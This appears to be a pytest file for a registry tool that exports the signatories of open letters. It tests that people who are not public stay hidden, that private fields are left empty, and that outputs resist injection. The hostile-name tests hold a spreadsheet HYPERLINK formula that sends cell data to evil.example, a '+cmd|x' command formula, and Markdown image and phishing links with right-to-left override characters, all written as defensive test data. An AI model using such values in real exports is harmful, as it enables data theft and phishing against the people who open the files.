"""Exports: who is listed, who is only counted, and what is left empty."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

from pathlib import Path
from typing import Any

import pytest

import coalition_registry as cr

from coalition_registry import render
from coalition_registry.cli import run
from coalition_registry.exports import COLUMNS
from conftest import SHIPPED
from strategies_tables import LETTER, SOURCE


SHIPPED_LETTER = "survivors-letter-2023"
CHI = (
    "https://childhelplineinternational.org/child-sexual-abuse-survivors-"
    "urge-tech-companies-to-act-now-to-protect-children/"
)


def cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(list(argv), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(name="shipped", scope="module")
def _shipped() -> cr.Export:
    return cr.export(cr.load(SHIPPED))


class TestShipped:
    def test_rows(self, shipped: cr.Export) -> None:
        assert [
            ("alliance-to-counter-crime-online", "organisation", ""),
            ("barnardos", "organisation", "GB"),
            ("canadian-centre-for-child-protection", "organisation", "CA"),
            ("child-helpline-international", "organisation", "NL"),
            ("collective-shout", "organisation", "AU"),
            ("ecpat-international", "organisation", "TH"),
            ("eurochild", "organisation", "BE"),
            ("network-for-childrens-rights", "organisation", "GR"),
            ("phoenix-11", "group", ""),
            ("nspcc-survivor-campaigners", "group", "GB"),
        ] == [(r["signatory"], r["kind"], r["country"]) for r in shipped.rows]

    def test_a_row(self, shipped: cr.Export) -> None:
        barnardos = shipped.rows[1]
        assert {
            "letter": SHIPPED_LETTER,
            "signatory": "barnardos",
            "kind": "organisation",
            "disclosure": "",
            "name": "Barnardo's",
            "name_as_printed": "Barnardo’s",
            "role": "organisation",
            "capacity": "own-name",
            "on_behalf_of": "",
            "country": "GB",
            "country_name": "United Kingdom",
            "scope": "",
            "verification": "reported",
            "signed_on": "",
            "source": CHI,
        } == barnardos

    def test_every_row_has_the_columns(self, shipped: cr.Export) -> None:
        assert all(tuple(r) == COLUMNS for r in shipped.rows)

    def test_counts(self, shipped: cr.Export) -> None:
        assert {SHIPPED_LETTER: 0} == shipped.unlisted
        assert {SHIPPED_LETTER: 0} == shipped.withdrawn
        assert () == shipped.notes()

    def test_as_dict(self, shipped: cr.Export) -> None:
        data = shipped.as_dict()
        assert {
            "columns",
            "rows",
            "unlisted",
            "withdrawn",
            "withdrawn_unlisted",
            "leaving",
            "notes",
            "on",
        } == set(data)
        assert list(COLUMNS) == data["columns"]
        assert 10 == len(data["rows"])
        assert [] == data["notes"]
        json.dumps(data)

    def test_the_howto_lists_the_columns(self) -> None:
        """docs/howto.md lists every column, in order."""
        howto = Path(__file__).parent.parent / "docs" / "howto.md"
        line = next(
            x
            for x in howto.read_text(encoding="utf-8").splitlines()
            if x.startswith("Each row has the columns")
        )
        assert list(COLUMNS) == re.findall(r"`([a-z_]+)`", line)

    def test_one_letter(self) -> None:
        registry = cr.load(SHIPPED)
        assert cr.export(registry).rows == (
            cr.export(registry, SHIPPED_LETTER).rows
        )
        with pytest.raises(cr.UnknownLetterError):
            cr.export(registry, "no-such-letter")
        # An empty id is a mistake, not "every letter".
        with pytest.raises(cr.UnknownLetterError):
            cr.export(registry, "")


class TestShippedCli:
    def test_csv(self, shipped_copy: Path) -> None:
        code, out, err = cli("export")
        assert (0, "") == (code, err)
        rows = list(csv.DictReader(io.StringIO(out)))
        assert 10 == len(rows)
        assert tuple(rows[0]) == COLUMNS
        assert "Barnardo's" == rows[1]["name"]

    def test_json(self, shipped_copy: Path) -> None:
        _, out, _ = cli("export", "--format", "json")
        data = json.loads(out)
        assert 10 == len(data["rows"])
        assert {SHIPPED_LETTER: 0} == data["unlisted"]

    def test_jsonl(self, shipped_copy: Path) -> None:
        _, out, _ = cli("export", "--format", "jsonl")
        rows = [json.loads(line) for line in out.splitlines()]
        assert 10 == len(rows)
        assert "phoenix-11" == rows[8]["signatory"]

    def test_markdown(self, shipped_copy: Path) -> None:
        _, out, _ = cli("export", "--format", "markdown")
        lines = out.splitlines()
        assert (
            "| letter | name | kind | role | capacity | on_behalf_of "
            "| country_name | source |"
        ) == lines[0]
        assert 12 == len(lines)
        assert (
            f"| {SHIPPED_LETTER} | Barnardo's | organisation | organisation "
            f"| own-name |  | United Kingdom | {CHI} |"
        ) == lines[3]

    def test_unknown_letter_is_a_usage_error(self, shipped_copy: Path) -> None:
        code, out, err = cli("export", "--letter", "nope")
        assert (2, "") == (code, out)
        assert "no letter has the id 'nope'" in err


# -- small registries ---------------------------------------------------------

PAST = dt.date(2024, 1, 15)


def letter() -> cr.Letter:
    return cr.Letter(id=LETTER, title="The letter", sources=SOURCE)


def person(i: int, disclosure: str, **fields: Any) -> cr.Person:
    return cr.Person(
        id=f"person-{i:04d}aa" if disclosure != "public" else f"public-{i}",
        disclosure=disclosure,
        name=None if disclosure == "anonymous" else f"Named Person {i}",
        sources=SOURCE,
        **fields,
    )


def signs(who: Any, role: str = "survivor", **fields: Any) -> cr.Signature:
    fields.setdefault("sources", SOURCE)
    return cr.Signature(
        id=f"{LETTER}--{who.id}",
        letter=LETTER,
        signatory=who.id,
        role=role,
        **fields,
    )


def org(i: int, **fields: Any) -> cr.Organisation:
    return cr.Organisation(
        id=f"org-{i}", name=f"Organisation {i}", sources=SOURCE, **fields
    )


def test_rows_follow_the_alphabet_however_accents_are_saved() -> None:
    """A name that starts with an accented letter is among the others of
    its letter, whether the accent is one character (as typed) or two (as
    a Mac may save it); by code point, "École" came after "Zebra".
    """
    names = [
        "Zebra Trust",
        "E\u0301cole Example",
        "\u00c9cole Exemple",
        "Eden",
    ]
    orgs = [
        cr.Organisation(id=f"org-{i}", name=name, sources=SOURCE)
        for i, name in enumerate(names)
    ]
    data = cr.export(
        cr.Registry(
            [letter(), *orgs, *(signs(o, role="organisation") for o in orgs)]
        )
    )
    assert [
        "E\u0301cole Example",
        "\u00c9cole Exemple",
        "Eden",
        "Zebra Trust",
    ] == [row["name"] for row in data.rows]


class TestDisclosure:
    @pytest.fixture(name="data")
    def _data(self) -> cr.Export:
        anon = person(1, "anonymous", country="GB")
        pseud = person(2, "pseudonym", country="FR")
        public = person(3, "public", country="IE")
        return cr.export(
            cr.Registry(
                [
                    letter(),
                    anon,
                    pseud,
                    public,
                    signs(anon),
                    signs(pseud, name_as_printed="Pseudo Nym"),
                    signs(public, "expert"),
                ]
            )
        )

    def test_only_public_people_are_listed(self, data: cr.Export) -> None:
        assert [("public-3", "Named Person 3", "IE")] == [
            (r["signatory"], r["name"], r["country"]) for r in data.rows
        ]

    def test_others_are_counted(self, data: cr.Export) -> None:
        assert {LETTER: 2} == data.unlisted
        assert {LETTER: 0} == data.withdrawn
        assert (
            (
                # Three rows of one person each hide the total: the
                # count of those who are not public would give it back.
                f"{LETTER}: some signatories who are not public are "
                "counted but not listed"
            ),
        ) == data.notes()

    def test_nothing_of_theirs_is_exported(self, data: cr.Export) -> None:
        text = json.dumps(data.as_dict()) + repr(data)
        for secret in ("Named Person 1", "Named Person 2", "Pseudo Nym"):
            assert secret not in text
        assert "person-0001aa" not in text
        assert "person-0002aa" not in text


class TestWithdrawn:
    def registry(self, withdrawn_on: dt.date | None) -> cr.Registry:
        kept, gone = org(1, hq_country="GB"), org(2, hq_country="FR")
        return cr.Registry(
            [
                letter(),
                kept,
                gone,
                signs(kept, "organisation"),
                signs(
                    gone,
                    "organisation",
                    status="withdrawn",
                    withdrawn_on=withdrawn_on,
                ),
            ]
        )

    @pytest.mark.parametrize("withdrawn_on", [PAST, None])
    def test_withdrawn_are_counted_not_listed(
        self, withdrawn_on: dt.date | None
    ) -> None:
        data = cr.export(self.registry(withdrawn_on))
        assert ["org-1"] == [r["signatory"] for r in data.rows]
        assert {LETTER: 1} == data.withdrawn
        assert {LETTER: 0} == data.unlisted
        # An organisation's withdrawal is public: it is counted exactly.
        assert (f"{LETTER}: 1 withdrawn signature(s) are not listed",) == (
            data.notes()
        )
        assert "Organisation 2" not in json.dumps(data.as_dict())

    def test_withdrawn_are_never_listed_even_before_the_date(self) -> None:
        """Bug: a signature withdrawn after the day exported is listed by
        name (issue: withdrawn signatures "are never listed by name").
        """
        data = cr.export(self.registry(PAST), on=PAST - dt.timedelta(days=30))
        assert ["org-1"] == [r["signatory"] for r in data.rows]

    def test_withdrawn_with_a_future_date_is_never_listed(self) -> None:
        """Bug: status withdrawn with a withdrawal date still to come is
        listed by name.  It still counts, as in the tables: it is not
        among the withdrawn.
        """
        data = cr.export(self.registry(dt.date(2999, 1, 1)))
        assert ["org-1"] == [r["signatory"] for r in data.rows]
        assert ({LETTER: 0}, {LETTER: 1}) == (data.withdrawn, data.leaving)
        note = (
            f"{LETTER}: 1 signature(s) withdrawn on a later day are counted "
            "but not listed"
        )
        assert (note,) == data.notes()

    def test_a_person_withdrawn_from_a_later_day_still_counts(self) -> None:
        anon = person(1, "anonymous")
        later = dt.date(2999, 1, 1)
        registry = cr.Registry(
            [
                letter(),
                anon,
                signs(anon, status="withdrawn", withdrawn_on=later),
            ]
        )
        data = cr.export(registry)
        # Counted on the day; its withdrawal, dated, is counted on every
        # day, so that no day's notes tell when it came.
        assert ({LETTER: 1}, {LETTER: 1}) == (
            data.unlisted,
            data.withdrawn_unlisted,
        )
        assert LETTER in data.undisclosed
        assert (
            f"{LETTER}: some signatures of people who are not public are "
            "withdrawn (on this day or another), and are not listed"
            in (data.notes())
        )
        before = cr.export(registry, on=dt.date(2024, 1, 1))
        assert before.notes()[1:] == data.notes()

    def test_withdrawn_people_are_not_counted_twice(self) -> None:
        anon = person(1, "anonymous")
        registry = cr.Registry(
            [
                letter(),
                anon,
                signs(anon, status="withdrawn", withdrawn_on=PAST),
            ]
        )
        data = cr.export(registry)
        assert ((), {LETTER: 0}, {LETTER: 0}, {LETTER: 1}) == (
            data.rows,
            data.unlisted,
            data.withdrawn,
            data.withdrawn_unlisted,
        )
        # Dated, the withdrawal would be counted by setting two days'
        # exports side by side: no count is given.
        note = (
            f"{LETTER}: some signatures of people who are not public are "
            "withdrawn (on this day or another), and are not listed"
        )
        assert (note,) == data.notes()
        undated = cr.Registry(
            [letter(), anon, signs(anon, status="withdrawn")]
        )
        note = (
            f"{LETTER}: fewer than 3 withdrawn signatures of people who are "
            "not public are not listed"
        )
        assert (note,) == cr.export(undated).notes()
        # Every count shown, one reads in the singular.
        note = (
            f"{LETTER}: 1 withdrawn signature of a person who is not public "
            "is not listed"
        )
        assert (note,) == cr.export(undated, threshold=1).notes()

    def test_public_withdrawals_cannot_be_taken_from_the_others(
        self,
    ) -> None:
        """3 public organisations and 1 anonymous person withdrawn: a sum
        of 4, less the 3 public ones, would give the person."""
        orgs = [org(i) for i in range(3)]
        anon = person(1, "anonymous")
        registry = cr.Registry(
            [
                letter(),
                *orgs,
                anon,
                *(
                    signs(o, status="withdrawn", withdrawn_on=PAST)
                    for o in orgs
                ),
                signs(anon, status="withdrawn", withdrawn_on=PAST),
            ]
        )
        text = "\n".join(cr.export(registry).notes())
        assert "4" not in text
        assert "3 withdrawn signature(s) are not listed" in text
        assert (
            "some signatures of people who are not public are withdrawn"
            in text
        )

    def test_a_threshold_of_5(self) -> None:
        people = [person(i, "anonymous") for i in range(4)]
        registry = cr.Registry(
            [letter(), *people, *(signs(p) for p in people)]
        )
        # 4 people below 5: the tables hide the total, and so does this.
        assert (
            "some signatories" in cr.export(registry, threshold=5).notes()[0]
        )
        assert "4 signatories" in cr.export(registry).notes()[0]


class TestPrivateFields:
    def test_private_fields_are_left_empty(self) -> None:
        hidden = org(
            1,
            hq_country="NO",
            scope="international",
            private=("name", "hq_country", "scope"),
        )
        group = cr.Group(
            id="grp",
            name="Secret Group Name",
            country="IS",
            private=("name", "country"),
            sources=SOURCE,
        )
        public = cr.Person(
            id="pub",
            disclosure="public",
            name="Private Public Name",
            country="FI",
            private=("name", "country"),
            sources=SOURCE,
        )
        data = cr.export(
            cr.Registry(
                [
                    letter(),
                    hidden,
                    group,
                    public,
                    signs(
                        hidden,
                        "organisation",
                        name_as_printed="Printed Secret",
                        verification="confirmed-by-signatory",
                        private=("name_as_printed", "role", "verification"),
                    ),
                    signs(
                        group,
                        sources=(
                            cr.Source(url="https://secret.example.org/x"),
                        ),
                        private=("sources",),
                    ),
                    signs(public, "expert"),
                ]
            )
        )
        rows = {r["signatory"]: r for r in data.rows}
        assert {"org-1", "grp", "pub"} == set(rows)
        assert {
            "name": "",
            "name_as_printed": "",
            "role": "",
            "country": "",
            "country_name": "",
            "scope": "",
            "verification": "",
        } == {k: rows["org-1"][k] for k in
              ("name", "name_as_printed", "role", "country",
               "country_name", "scope", "verification")}  # fmt: skip
        assert ("", "", "", "") == (
            rows["grp"]["name"],
            rows["grp"]["country"],
            rows["grp"]["country_name"],
            rows["grp"]["source"],
        )
        assert ("", "") == (rows["pub"]["name"], rows["pub"]["country"])
        text = json.dumps(data.as_dict()) + repr(data)
        for secret in (
            "Organisation 1",
            "Norway",
            "international",
            "Printed Secret",
            "confirmed-by-signatory",
            "Secret Group Name",
            "Iceland",
            "secret.example.org",
            "Private Public Name",
            "Finland",
        ):
            assert secret not in text

    def test_a_private_name_hides_the_name_as_printed(self) -> None:
        """The name a letter printed is the signatory's name: a signature
        that does not itself list it as private still does not show it
        (validation refuses such a signature too)."""
        group = cr.Group(
            id="grp", name="Secret Name", private=("name",), sources=SOURCE
        )
        data = cr.export(
            cr.Registry(
                [letter(), group, signs(group, name_as_printed="Secret Name")]
            )
        )
        assert ("", "") == (
            data.rows[0]["name"],
            data.rows[0]["name_as_printed"],
        )


class TestOnBehalfOf:
    """A signature for an organisation is never exported as one in the
    signatory's own name.
    """

    @pytest.fixture(name="registry")
    def _registry(self) -> cr.Registry:
        employer, partner = org(1), org(2)
        public = person(3, "public")
        return cr.Registry(
            [
                letter(),
                employer,
                partner,
                public,
                signs(
                    public,
                    "expert",
                    capacity="on-behalf-of",
                    on_behalf_of="org-1",
                ),
                signs(
                    partner,
                    "organisation",
                    capacity="on-behalf-of",
                    on_behalf_of="org-1",
                ),
            ]
        )

    def test_the_capacity_and_organisation_are_exported(
        self, registry: cr.Registry
    ) -> None:
        rows = {r["signatory"]: r for r in cr.export(registry).rows}
        assert ("on-behalf-of", "org-1") == (
            rows["public-3"]["capacity"],
            rows["public-3"]["on_behalf_of"],
        )
        assert ("on-behalf-of", "org-1") == (
            rows["org-2"]["capacity"],
            rows["org-2"]["on_behalf_of"],
        )

    @pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "markdown"])
    def test_every_format_has_them(
        self, registry: cr.Registry, fmt: str
    ) -> None:
        """Every format carries both columns, and the organisation."""
        out = io.StringIO()
        getattr(render, f"export_{fmt}")(cr.export(registry), out)
        text = out.getvalue()
        assert "capacity" in text
        assert "on_behalf_of" in text
        assert "on-behalf-of" in text

    @pytest.mark.parametrize(
        "private",
        [("on_behalf_of",), ("capacity",), ("capacity", "on_behalf_of")],
    )
    def test_private_values_are_left_empty(
        self, private: tuple[str, ...]
    ) -> None:
        """A private organisation is left empty, and so is it with a
        private capacity, which it would give away.
        """
        employer, public = org(1), person(3, "public")
        registry = cr.Registry(
            [
                letter(),
                employer,
                public,
                signs(
                    public,
                    "expert",
                    capacity="on-behalf-of",
                    on_behalf_of="org-1",
                    private=private,
                ),
            ]
        )
        row = cr.export(registry).rows[0]
        assert "" == row["on_behalf_of"]
        shown = "" if "capacity" in private else "on-behalf-of"
        assert shown == row["capacity"]

    def test_people_who_are_not_public_are_not_listed(self) -> None:
        """Nothing of the signature of a person who is not public is
        exported, whom they signed for included.
        """
        employer, hidden = org(1), person(4, "pseudonym")
        data = cr.export(
            cr.Registry(
                [
                    letter(),
                    employer,
                    hidden,
                    signs(
                        hidden,
                        "expert",
                        capacity="on-behalf-of",
                        on_behalf_of="org-1",
                    ),
                ]
            )
        )
        assert () == data.rows
        assert "org-1" not in json.dumps(data.as_dict())


class TestHostileNames:
    """Names come from contributors; the outputs are opened elsewhere."""

    @pytest.fixture(name="data")
    def _data(self) -> cr.Export:
        hostile = cr.Organisation(
            id="org-1",
            name='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
            hq_country="GB",
            sources=SOURCE,
        )
        markup = cr.Organisation(
            id="org-2",
            name='<img src="https://evil.example/t.png"> [Donate](x) *b*',
            sources=SOURCE,
        )
        return cr.export(
            cr.Registry(
                [
                    letter(),
                    hostile,
                    markup,
                    signs(hostile, "organisation", name_as_printed="+cmd|x"),
                    signs(markup, "organisation"),
                ]
            )
        )

    def test_csv_cells_are_never_formulas(self, data: cr.Export) -> None:
        out = io.StringIO()
        render.export_csv(data, out)
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        by_id = {row["signatory"]: row for row in rows}
        assert "'=HYPERLINK(" == by_id["org-1"]["name"][:12]
        assert "'+cmd|x" == by_id["org-1"]["name_as_printed"]
        assert all(
            not value.startswith(("=", "+", "-", "@"))
            for row in rows
            for value in row.values()
        )
        # Nothing else is touched.
        assert by_id["org-2"]["name"].startswith("<img src=")

    def test_full_width_formula_signs_are_guarded(self) -> None:
        """Some spreadsheets read "\uff1d" as "=": such a cell starts with
        an apostrophe too."""
        org = cr.Organisation(
            id="org-1", name="\uff1dHYPERLINK(1)", sources=SOURCE
        )
        data = cr.export(
            cr.Registry([letter(), org, signs(org, "organisation")])
        )
        out = io.StringIO()
        render.export_csv(data, out)
        assert "'\uff1dHYPERLINK(1)" in out.getvalue()

    def test_markdown_shows_markup_as_text(self, data: cr.Export) -> None:
        out = io.StringIO()
        render.export_markdown(data, out)
        row = next(x for x in out.getvalue().splitlines() if "img" in x)
        assert (
            r'\<img src="https\://evil.example/t.png"> \[Donate\](x) \*b\*'
            in row
        )
        assert "<img" not in row.replace(r"\<img", "")

    def test_markdown_names_make_no_links_and_addresses_stay_links(
        self,
    ) -> None:
        named = cr.Organisation(
            id="org-3",
            name="Visit www.evil.example or https://evil.example ~~now~~",
            sources=SOURCE,
        )
        signature = signs(
            named,
            "organisation",
            sources=(cr.Source(url="https://example.org/a_b*c"),),
        )
        data = cr.export(cr.Registry([letter(), named, signature]))
        out = io.StringIO()
        render.export_markdown(data, out)
        row = out.getvalue().splitlines()[2]
        assert r"www\.evil.example or https\://evil.example \~\~now\~\~" in row
        assert row.endswith("| https://example.org/a_b*c |")

    def test_markdown_addresses_make_no_links_images_or_characters(
        self,
    ) -> None:
        """A valid address can hold Markdown of its own: a link with any
        text, an image fetched from elsewhere, or a character reference
        to a right-to-left override; none of them may take effect.
        """
        named = cr.Organisation(
            id="org-4",
            name="Example Charity &#x202E;yrotsih&#x202C; &amp; Co",
            sources=SOURCE,
        )
        url = (
            "https://example.org/src?q=1)![](https://evil.example/p.png)"
            "[Official-list](https://evil.example/phish)&r=&#x202E;&s=2"
        )
        signature = signs(named, "organisation", sources=(cr.Source(url=url),))
        data = cr.export(cr.Registry([letter(), named, signature]))
        out = io.StringIO()
        render.export_markdown(data, out)
        row = out.getvalue().splitlines()[2]
        assert "](" not in row.replace(r"\](", "")
        assert "[" not in row.replace(r"\[", "")
        assert r"Example Charity \&#x202E;yrotsih\&#x202C; \&amp; Co" in row
        assert row.endswith(
            "| https://example.org/src?q=1)!%5B%5D(https://evil.example/p.png)"
            "%5BOfficial-list%5D(https://evil.example/phish)&r=%26#x202E;&s=2 |"
        )
